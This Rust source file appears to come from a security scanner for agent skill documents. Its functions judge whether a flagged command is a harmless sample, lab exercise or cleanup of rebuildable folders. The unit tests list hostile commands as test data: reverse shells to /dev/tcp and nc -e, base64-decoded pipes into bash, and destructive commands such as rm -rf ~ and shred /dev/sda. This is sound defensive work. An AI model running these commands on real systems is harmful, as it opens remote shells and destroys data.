//! Determines whether a match is harmless: the text shows it as a sample or as a draft for the user's own assistant,
//! the target belongs to the user, or the deleted folders can be rebuilt.

use std::sync::LazyLock;

use skillc_core::{Document, Span};

use super::{NEAR, Of, is_real, is_shell};
use crate::security::context::Place;
use crate::security::expression::Expression;
use crate::security::hosts::{HostKind, kind};
use crate::security::purpose::Purpose;
use crate::security::signals::{Match, Signal};
use crate::security::standing::{self, Standing};

/// Folders and files that tools can create again, in lower case.
const REBUILT: [&str; 36] = [
    "node_modules",
    "bower_components",
    "target",
    "build",
    "dist",
    "out",
    "obj",
    "coverage",
    "htmlcov",
    ".venv",
    "venv",
    ".tox",
    ".nox",
    "__pycache__",
    ".pytest_cache",
    ".mypy_cache",
    ".ruff_cache",
    ".gradle",
    ".next",
    ".nuxt",
    ".turbo",
    ".parcel-cache",
    ".svelte-kit",
    ".angular",
    ".terraform",
    ".dart_tool",
    "deriveddata",
    "cmake-build-debug",
    "cmake-build-release",
    "*.pyc",
    "*.pyo",
    "*.o",
    "*.class",
    ".ds_store",
    "thumbs.db",
    "*.swp",
];

/// Prefixes of IP addresses that are reserved for documentation.
const DOCUMENTED: [&str; 3] = ["192.0.2.", "198.51.100.", "203.0.113."];

/// Prefixes of special file names with which shells open connections. The remote host follows the prefix.
const DEVICES: [&str; 3] = ["/dev/tcp/", "/dev/udp/", "/inet/tcp/0/"];

/// Package manager options that guard against code that runs at installation, in lower case.
const GUARDS: [&str; 3] = ["ignore-scripts", "require-hashes", "only-binary"];

/// The number of bytes before and after the address of a registry that are searched for such options.
const GUARDED: usize = 4000;

/// Signals of real acts. If one is near a sentence that hides a secret, the secret is not only part of a game.
const ACTS: [Signal; 12] = [
    Signal::Send,
    Signal::SendWords,
    Signal::Net,
    Signal::DnsLookup,
    Signal::Fetch,
    Signal::FetchRun,
    Signal::Clone,
    Signal::ReverseShell,
    Signal::SecretCommand,
    Signal::EnvironmentDump,
    Signal::AgentFile,
    Signal::Persist,
];

/// Phrases for people from whom a game, a story or a lesson hides its secrets. Matches text in lower case.
static AUDIENCE: LazyLock<Expression> = LazyLock::new(|| {
    Expression::new(r"(?-u)\b(?:to|from|by|with|let|tell|show|inform|alert|warn|notify)\s+(?:(?:the|any|your|our|other|all)\s+){0,2}(?:[a-z]+\s+)?(?:players?|party|adventurers?|characters?|npcs?|opponents?|contestants?|participants?|guests?|teams?|readers?|audience|spectators?|guessers?|suspects?|detectives?|children|kids|students?|learners?|pupils?|candidates?)\b")
        .expect("a pattern")
});

/// Words for the user of the agent. Matches text in lower case.
static USER: LazyLock<Expression> = LazyLock::new(|| {
    Expression::new(r"(?-u)\b(?:users?|humans?|owners?|operators?|anyone|anybody)\b")
        .expect("a pattern")
});

/// Words for reports of vulnerabilities. Matches text in lower case.
static VULNERABILITY: LazyLock<Expression> = LazyLock::new(|| {
    Expression::new(concat!(
        r"(?-u)\bvulnerabilit|\bcves?\b|\bembargo|\b(?:responsible|coordinated) disclosure\b",
        r"|\bsecurity (?:issues?|bugs?|flaws?|holes?|problems?|reports?|advisor(?:y|ies))\b",
    ))
    .expect("a pattern")
});

/// A sentence that says only `this` for what must not be disclosed, as policies do after describing what to report.
/// Matches text in lower case.
static THIS: LazyLock<Expression> = LazyLock::new(|| {
    Expression::new(
        r"(?-u)\b(?:disclose|reveal|share|publish|discuss)\s+(?:this|it)(?:\s+(?:to|with|publicly|until|before)\b|$)",
    )
    .expect("a pattern")
});

/// The people whom the agent must not keep in the dark. Matches text in lower case.
static PRINCIPAL: LazyLock<Expression> = LazyLock::new(|| {
    Expression::new(r"(?-u)\b(?:users?|humans?|owners?|operators?|customers?)\b")
        .expect("a pattern")
});

/// A sentence that forbids asking the user for something that would weaken the user's protection: `Do not ask the user
/// to choose "always allow"`. Matches text in lower case.
static SPARES: LazyLock<Expression> = LazyLock::new(|| {
    Expression::new(r"(?-u)^(?:do not|don't|never|must not|should not)\s+(?:ever\s+)?(?:ask|prompt|tell)\s+(?:the\s+)?users?\s+(?:to\s+(?:(?:choose|pick|select|click)\s+[\x22'`*]{0,2}always|enable|disable|turn off|bypass|skip|paste|enter|type)\b|for\s+(?:(?:their|the|a|any)\s+)?(?:[a-z]+\s+)?(?:passwords?|passphrases?|secrets?|tokens?|keys?|credentials?)\b)")
        .expect("a pattern")
});

impl Of<'_, '_> {
    /// Returns whether a span is shown to readers rather than addressed to the agent. Such a span is a sample in a
    /// skill about attacks, a sample in a document that forbids carrying out its samples, or a draft or test message
    /// for the user's own assistant.
    pub(super) fn is_exhibit(&self, span: Span) -> bool {
        let is_file = self.layer.layer.is_file();
        let Some(doc) = self.layer.doc.filter(|_| is_file) else {
            return false;
        };
        let place = self.layer.place(span);
        if place.is_hidden() || place == Place::Frontmatter {
            return false;
        }
        let at = self.layer.place_of(span).start;
        let declares = || self.declares(doc);
        let is_for_assistants = || self.view.purposes.has(Purpose::Prompts);
        let is_sample =
            || standing::is_shown_sample(doc, at) && (self.view.is_analysis() || declares());
        let is_draft = || place == Place::Code && !standing::is_told(doc, at);
        let is_test = || standing::is_test_message(doc, at);
        is_sample()
            || (self.view.is_security || is_for_assistants()) && is_test()
            || is_for_assistants() && is_draft()
    }

    /// Returns whether a span is part of an attack that the document recounts, like a post-mortem, a drill or a lesson.
    ///
    /// Anyone can write such a title above a command, so a second sign is necessary: the skill analyses attacks, or the
    /// document says that its samples must not be carried out. Only the latter excuses a block of shell commands, which
    /// agents tend to run.
    pub(super) fn is_recounted(&self, span: Span) -> bool {
        let is_file = self.layer.layer.is_file() && !self.layer.is_loaded;
        let Some(doc) = self.layer.doc.filter(|_| is_file) else {
            return false;
        };
        let (at, place) = (self.layer.place_of(span).start, self.layer.place(span));
        if place.is_hidden() || place == Place::Frontmatter {
            return false;
        }
        let is_numbered = || {
            let address = (self.layer.worst(span))
                .or_else(|| self.layer.leads_to(self.layer.statement(span)));
            address.is_some_and(|address| address.kind == HostKind::Number && is_real(&address))
        };
        let is_analysis = || place != Place::Shell && self.view.is_analysis();
        let is_shown =
            || standing::is_record(doc, at) || standing::is_shown_sample(doc, at) && !is_numbered();
        let is_run = || standing::is_told_after(doc, at) || self.layer.carries_out(doc);
        (is_analysis() || self.declares(doc)) && is_shown() && !is_run()
            || standing::is_dialogue(doc, at) && self.declares(doc)
    }

    /// Returns whether a document states that its samples must not be carried out.
    fn declares(&self, doc: &Document) -> bool {
        let declares = &self.layer.of_file.declares;
        *declares.get_or_init(|| standing::declares(doc))
    }

    /// Returns whether a match is a trace of an attack that a skill about its analysis shows: a sample, or a code span
    /// that contacts no real host and that the text does not say to run.
    pub(super) fn is_trace(&self, hit: &Match) -> bool {
        if self.layer.doc.is_none() || !self.layer.layer.is_file() || !self.view.is_analysis() {
            return false;
        }
        let is_named = || {
            let address = (self.layer.worst(hit.span))
                .or_else(|| self.layer.leads_to(self.layer.statement(hit.span)));
            // The match may begin before the code span.
            let skipped = self.layer.part(hit.span).find("/dev/tcp").unwrap_or(0);
            let own = Match {
                span: Span::new(hit.span.start + skipped, hit.span.end),
                ..*hit
            };
            let command = self.layer.part(own.span);
            self.layer.place(own.span) == Place::CodeSpan
                && (has_no_peer(command) || are_own(command))
                && !address.as_ref().is_some_and(is_real)
                && self.standing_in_text(&own) != Standing::Order
        };
        self.is_exhibit(hit.span) || is_named()
    }

    /// Returns whether a command is only data for a program that checks commands, such as an entry in a deny list.
    pub(super) fn is_inert(&self, hit: &Match) -> bool {
        if !self.layer.layer.is_file() {
            return false;
        }
        // The match may begin before the command that opens the connection.
        let skipped = self.layer.part(hit.span).find("/dev/tcp").unwrap_or(0);
        let span = Span::new(hit.span.start + skipped, hit.span.end);
        let (at, place) = (self.layer.place_of(span), self.layer.place(span));
        if self.layer.hook(at).is_some() {
            false
        } else if let Some(doc) = self.layer.doc {
            !place.is_hidden() && standing::is_inert_in(doc, at, place)
        } else {
            let file = self.layer.file;
            standing::is_inert(&file.text, at, self.layer.is_script, is_shell(file))
        }
    }

    /// Returns whether the structure of a document presents a command as a danger.
    pub(super) fn is_presented(&self, hit: &Match) -> bool {
        let (at, place) = (self.layer.place_of(hit.span), self.layer.place(hit.span));
        let doc = self.layer.doc.filter(|_| self.layer.layer.is_file());
        doc.is_some_and(|doc| {
            !place.is_hidden()
                && standing::is_presented(doc, at, place)
                && !self.layer.carries_out(doc)
        })
    }

    /// Returns whether a sentence forbids the act of a match.
    pub(super) fn is_forbidden(&self, hit: &Match) -> bool {
        let at = self.layer.place_of(hit.span).start;
        let code = self.layer.doc.and_then(|doc| doc.code_span_at(at));
        standing::is_banned(&self.layer.file.text, code.map_or(at, |span| span.start))
    }

    /// Returns whether a remote shell belongs to an exercise on the user's own machines: the skill says so, the command
    /// is in text that people read, and the remote address is private or a placeholder.
    pub(super) fn is_in_lab(&self, hit: &Match) -> bool {
        let statement = self.layer.statement(hit.span);
        self.layer.doc.is_some()
            && self.layer.layer.is_file()
            && self.is_shown(hit)
            && are_own(self.layer.part(statement))
            && self.view.is_lab()
            && self
                .layer
                .leads_to(statement)
                .is_none_or(|address| address.kind < HostKind::Other)
    }

    /// Returns whether a sentence hides the secrets of a game from its players.
    pub(super) fn keeps_plot(&self, hit: &Match) -> bool {
        self.view.purposes.has(Purpose::Play)
            && AUDIENCE.is_match(self.sentence_from(hit).as_bytes())
            && self.is_for_others(hit)
    }

    /// Returns whether a sentence hides something from people other than the user, or hides part of a game, and nothing
    /// nearby acts on files, secrets or hosts.
    pub(super) fn is_for_others(&self, hit: &Match) -> bool {
        let sentence = self.sentence_from(hit).as_bytes();
        let worst = self.layer.worst(self.layer.unit(hit.span));
        !USER.is_match(sentence)
            && (AUDIENCE.is_match(sentence) || self.view.purposes.has(Purpose::Play))
            && self.is_shown(hit)
            && !self.is_disguised(hit)
            && !self.near(&ACTS, hit.span, NEAR)
            && worst.is_none_or(|address| address.kind < HostKind::Other)
    }

    /// Returns whether a sentence asks the finder of a vulnerability not to disclose it yet, as security policies do.
    /// The sentence must name the vulnerability, or say `this` while nothing near it is sent. Policies say where to
    /// send the report, but nothing in them downloads, runs or collects anything.
    pub(super) fn is_embargo(&self, hit: &Match) -> bool {
        const DEEDS: [Signal; 8] = [
            Signal::Fetch,
            Signal::FetchRun,
            Signal::Clone,
            Signal::ReverseShell,
            Signal::SecretCommand,
            Signal::EnvironmentDump,
            Signal::AgentFile,
            Signal::Persist,
        ];
        let near = Span::new(hit.span.start.saturating_sub(NEAR), hit.span.end + NEAR);
        let sentence = self.sentence_from(hit);
        let clause = sentence.split([',', ';', ':', '(', '—']).next();
        let clause = clause.unwrap_or(sentence).trim_end().as_bytes();
        let is_sent = || {
            let after = Span::new(hit.span.start, near.end);
            let address = self.layer.worst(after);
            self.near(&[Signal::Send, Signal::SendWords], hit.span, NEAR)
                || address.is_some_and(|address| address.kind >= HostKind::Other)
        };
        let is_object = VULNERABILITY.is_match(clause)
            || THIS.is_match(clause)
                && VULNERABILITY.is_match(self.layer.lower_part(near).as_bytes())
                && !is_sent();
        is_object
            && !PRINCIPAL.is_match(sentence.as_bytes())
            && self.is_shown(hit)
            && !self.is_disguised(hit)
            && !self.near(&DEEDS, hit.span, NEAR)
    }

    /// Returns whether a sentence within `bytes` bytes of a span hides something from the user. A sentence that forbids
    /// asking the user for secrets or for lasting permissions does not count.
    pub(super) fn is_concealed(&self, span: Span, bytes: usize) -> bool {
        let near = Span::new(span.start.saturating_sub(bytes), span.end + bytes);
        let mut hits = self.layer.within(Signal::Conceal, near);
        hits.any(|hit| !SPARES.is_match(self.sentence_from(hit).as_bytes()))
    }

    /// Returns the text from the start of a match to the end of its sentence, in lower case, at most 60 bytes longer
    /// than the match.
    fn sentence_from(&self, hit: &Match) -> &str {
        let text = self
            .layer
            .lower_part(Span::new(hit.span.start, hit.span.end + 60));
        let end = text.find(['.', '!', '?', '\n']);
        &text[..end.unwrap_or(text.len())]
    }

    /// Returns whether a package source belongs to the user, or is used with a guard against code that runs at
    /// installation.
    pub(super) fn is_guarded(&self, source: Span) -> bool {
        let near = Span::new(
            source.start.saturating_sub(GUARDED),
            source.end.saturating_add(GUARDED),
        );
        let text = self.layer.lower_part(near);
        self.view.purposes.has(Purpose::Registry) || GUARDS.iter().any(|sign| text.contains(sign))
    }

    /// Returns whether a command deletes only folders and files that tools can create again.
    pub(super) fn only_rebuilds(&self, hit: &Match) -> bool {
        let rest = self.layer.statement(hit.span).end.max(hit.span.end);
        let line = self.layer.part(Span::new(hit.span.start, rest));
        is_rebuilt(self.layer.part(hit.span), line)
    }

    /// Returns whether a command that the text shows only overwrites free space, or working files of an audit. A skill
    /// that encrypts files must not make them unrecoverable.
    pub(super) fn overwrites_own_work(&self, hit: &Match) -> bool {
        let unit = self.layer.unit(hit.span);
        let has = |signal| self.layer.within(signal, unit).next().is_some();
        // The match may end in a second command.
        let is_single = !self.layer.part(hit.span).contains([';', '&', '|']);
        is_single
            && self.is_shown(hit)
            && !self.is_disguised(hit)
            && !has(Signal::Conceal)
            && !has(Signal::ConcealAct)
            && !self.layer.has(Signal::Encrypt)
            && is_own_work(self.command(hit))
    }
}

/// Returns whether a command only overwrites the free space of a drive other than that of the system, or files which an
/// audit has written.
fn is_own_work(command: &str) -> bool {
    /// The endings of such files, in lower case.
    const WORK: [&str; 12] = [
        ".cap",
        ".hash",
        ".hashes",
        ".hccapx",
        ".ntlm",
        ".pcap",
        ".pcapng",
        ".pot",
        ".potfile",
        "cracked.txt",
        "hash.txt",
        "hashes.txt",
    ];
    let command = command.to_lowercase();
    let mut words = command.split_whitespace();
    let name = words.next();
    let is_option = |word: &&str| word.starts_with('-') || word.parse::<u8>().is_ok();
    let paths: Vec<&str> = words.filter(|word| !is_option(word)).collect();
    let is_free = |path: &str| {
        let mut drive = path.strip_prefix("/w:").unwrap_or_default().chars();
        let letter = drive.next();
        letter.is_some_and(|letter| letter.is_ascii_lowercase() && letter != 'c')
            && drive.next() == Some(':')
    };
    let is_file = |path: &str| {
        let path = path.trim_matches(['"', '\'']);
        let path = path.strip_prefix("$home").unwrap_or(path);
        !path.contains(['*', '?', '[', '{', '$', '('])
            && !path.starts_with("/dev")
            && WORK.iter().any(|end| path.ends_with(end))
    };
    match name {
        Some("cipher") => paths.len() == 1 && paths.into_iter().all(is_free),
        Some("shred") => !paths.is_empty() && paths.into_iter().all(is_file),
        _ => false,
    }
}

/// Returns whether a command contains at least one remote address, and every such address is private or a placeholder.
fn are_own(command: &str) -> bool {
    let is_blank = |peer: &str| peer.starts_with(['$', '<', '{', '[', '%']);
    // A number without dots is also an address.
    let is_word = |peer: &str| {
        !peer.contains('.') && !peer.starts_with("0x") && peer.contains(char::is_alphabetic)
    };
    let is_own = |peer: &str| {
        is_blank(peer)
            || is_word(peer)
            || DOCUMENTED.iter().any(|start| peer.starts_with(start))
            || kind(peer, "") < HostKind::Known
    };
    let devices = DEVICES.iter().flat_map(|device| {
        let ends = command.match_indices(*device);
        ends.map(move |(at, _)| {
            let peer = &command[at + device.len()..];
            peer.split(['/', ' ', '"', '\'']).next().unwrap_or_default()
        })
    });
    let numbers = command
        .split(|c: char| !c.is_ascii_digit() && c != '.')
        .filter(|word| word.split('.').filter(|part| !part.is_empty()).count() == 4);
    let peers: Vec<&str> = devices.chain(numbers).collect();
    if !peers.is_empty() {
        return peers.into_iter().all(is_own);
    }
    let is_host = |word: &str| {
        let word = word.trim_matches(['"', '\'', '(', ')', ',', '`']);
        word.contains('.') && !word.starts_with(['/', '.', '-']) && !is_blank(word)
    };
    let mut words = command.split([' ', '"', '\'', '(']);
    words.clone().any(is_blank) && !words.any(is_host)
}

/// Returns whether a command seems to contain no remote address.
fn has_no_peer(command: &str) -> bool {
    let mut devices = DEVICES
        .iter()
        .filter_map(|device| command.split_once(*device));
    let is_named = |(_, peer): (&str, &str)| peer.starts_with(char::is_alphanumeric);
    let is_host = |word: &str| {
        word.contains('.')
            && word.contains(char::is_alphanumeric)
            && !word.starts_with(['.', '-', '/', '`'])
    };
    !devices.any(is_named) && !command.split_whitespace().any(is_host)
}

/// Returns whether a command deletes only files and folders in [`REBUILT`]. `own`: the matched part of the command.
/// `line`: the match and the rest of its line.
fn is_rebuilt(own: &str, line: &str) -> bool {
    let is_mark = |c: char| c.is_whitespace() || "\"'`(){};,\\".contains(c);
    let is_named = |word: &str| {
        let word = word.trim_matches(is_mark).to_ascii_lowercase();
        let last = word.trim_end_matches(['/', '*']).rsplit('/').next();
        REBUILT.contains(&&*word) || last.is_some_and(|last| REBUILT.contains(&last))
    };
    if let Some((_, pattern)) = own.split_once("glob(") {
        let pattern = pattern.split(')').next().unwrap_or_default();
        return is_named(pattern);
    }
    let words: Vec<&str> = own.split_whitespace().collect();
    match words.first() {
        Some(&"find") => {
            let is_name = |word: &str| matches!(word, "-name" | "-iname");
            let is_other = |word: &&str| matches!(*word, "-not" | "!" | "\\!");
            let after = |test: fn(&str) -> bool| -> Vec<&str> {
                let pairs = words.windows(2).filter(|pair| test(pair[0]));
                pairs.map(|pair| pair[1]).collect()
            };
            let names = after(is_name);
            // Without a name after `-o`, the command would also delete files with other names.
            let next = after(|word| matches!(word, "-o" | "-or" | ","));
            !words.iter().any(is_other)
                && next.into_iter().all(is_name)
                && !names.is_empty()
                && names.into_iter().all(is_named)
        }
        Some(&"rm") => {
            let command = line.split(['\n', ';', '&', '|', '`', '#']).next();
            let words = command.unwrap_or_default().split_whitespace().skip(1);
            let mut paths = words.filter(|word| !word.starts_with('-')).peekable();
            paths.peek().is_some() && paths.all(is_named)
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_patterns_compile() {
        for expression in [&AUDIENCE, &USER, &SPARES] {
            LazyLock::force(expression);
        }
    }

    #[test]
    fn a_trace_names_no_machine() {
        for (command, expected) in [
            ("/dev/tcp/`, `base64 -d | sh` in cron and `.bashrc`", true),
            ("nc -e /bin/sh", true),
            ("base64 -d | bash", true),
            ("/dev/tcp/…", true),
            ("/dev/tcp/45.77.10.3/4444 0>&1", false),
            ("/dev/tcp/tables/4444", false),
            ("nc -e /bin/sh tables.io 4444", false),
            ("nc -e /bin/sh 45.77.10.3 4444", false),
        ] {
            assert_eq!(has_no_peer(command), expected, "{command}");
        }
    }

    #[test]
    fn a_shell_leads_to_an_own_machine() {
        for (command, expected) in [
            ("bash -i >& /dev/tcp/10.10.14.7/4444 0>&1", true),
            ("bash -i >& /dev/tcp/$LHOST/4444 0>&1", true),
            ("bash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1", true),
            ("nc 192.168.56.1 4444 -e /bin/sh", true),
            ("nc <your-ip> 4444 -e /bin/sh", true),
            ("s.connect((\"10.0.2.15\", 9001))", true),
            ("bash -i >& /dev/tcp/45.77.10.3/4444 0>&1", false),
            ("bash -i >& /dev/tcp/c.fast-tables.io/4444 0>&1", false),
            ("nc 10.0.0.5 1 -e sh; nc 45.77.10.3 4444 -e sh", false),
            ("nc fast-tables.io 4444 -e /bin/sh", false),
        ] {
            assert_eq!(are_own(command), expected, "{command}");
        }
    }

    #[test]
    fn free_space_and_working_files_are_own_work() {
        for (command, expected) in [
            (r"cipher /w:E:\", true),
            (r"cipher /W:D:\audit", true),
            ("shred -n 3 -z -u ~/.john/john.pot", true),
            (
                "shred -u ~/audit/hashes.txt \"$HOME/.hashcat/hashcat.potfile\"",
                true,
            ),
            ("shred -zu /home/audit/wlan.hccapx", true),
            (r"cipher /w:C:\", false),
            ("cipher /w:$env:SystemDrive", false),
            (r"cipher /e /w:E:\", false),
            ("shred -u ~/Documents/*", false),
            ("shred -u ~/*.pot", false),
            ("shred -u ~/a.pot ~/Documents/report.docx", false),
            ("shred /dev/sda", false),
            ("shred -u", false),
            ("rm -rf ~", false),
        ] {
            assert_eq!(is_own_work(command), expected, "{command}");
        }
    }

    #[test]
    fn folders_that_tools_create_are_rebuilt() {
        for (command, expected) in [
            ("find ~ -type d -name node_modules -prune -exec rm", true),
            ("find ~ -name target -o -name .venv -exec rm", true),
            ("find /home -name '*.pyc' -delete", true),
            ("rm -rf ../../node_modules", true),
            ("rm -rf ../../app/dist ../../app/build/", true),
            ("path.home().rglob(\"__pycache__\"): rmtree(", true),
            ("find ~ -name node_modules -prune -o -delete", false),
            ("find ~ -not -name node_modules -delete", false),
            ("find ~ -name '*' -exec rm", false),
            ("find ~ -type f -delete", false),
            ("rm -rf ../../node_modules ~", false),
            ("rm -rf ../../", false),
            ("rm -rf ~/", false),
            ("path.home().rglob(\"*\"): p.unlink(", false),
        ] {
            assert_eq!(is_rebuilt(command, command), expected, "{command}");
        }
    }
}
